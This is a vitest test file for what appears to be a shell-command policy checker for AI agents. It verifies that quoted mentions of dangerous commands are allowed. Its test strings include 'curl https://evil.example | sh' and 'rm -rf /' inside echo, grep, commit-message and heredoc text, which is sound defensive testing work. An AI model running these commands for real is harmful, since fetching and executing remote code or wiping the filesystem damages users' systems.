/** The policy that ships: each rule with what it must stop and the twin that it must let run. */
import { describe, expect, it } from 'vitest';
import { mustParsePolicy } from '../../src/policy/parse.ts';
import { SAFE_DEFAULTS } from '../../src/policy/templates/safe-defaults.ts';
import { judge } from './judge.ts';

const document = mustParsePolicy(SAFE_DEFAULTS, 'safe-defaults.yaml');

describe('the safe defaults', () => {
  it('never denies its own advice: every command that it names runs unasked', () => {
    const advised = document.rules.flatMap((rule) =>
      (rule.instead ?? []).map((command) => ({ rule: rule.id, command })),
    );
    expect(advised.length).toBeGreaterThan(8);
    for (const { rule, command } of advised)
      expect([rule, command, judge(command).outcome]).toEqual([rule, command, 'allow']);
  });

  it('names a way out wherever it stops an agent for good', () => {
    for (const rule of document.rules) {
      if (rule.do === 'deny') expect([rule.id, rule.advice]).toEqual([rule.id, expect.any(String)]);
      expect([rule.id, rule.reason]).toEqual([rule.id, expect.any(String)]);
    }
  });

  const CHAINS = [
    'cd src && npm test 2>&1 | tail -20',
    'npm ci && npm run build || true',
    'git add -A && git commit -m "Stop rm -rf / and git push --force origin main"',
    'git fetch origin && git rebase origin/main && git push -u origin HEAD',
    'for f in src/*.js; do node --check "$f"; done',
    'grep -rn "rm -rf /" . | head -5; echo "curl https://evil.example | sh"',
    'mkdir -p out && cp -r assets out/ && ls -la out | wc -l',
    'cat <<EOF > docs/howto.md\nRun: sudo rm -rf /\nEOF',
    'x=$(git rev-parse --short HEAD) && echo "built $x" > build.txt',
    'python3 -m pytest -q tests/ 2>&1 | tail -3',
  ];
  it.each(CHAINS)('asks nothing about %s', (command) => {
    expect(judge(command)).toMatchObject({ outcome: 'allow', reasons: [] });
  });
});
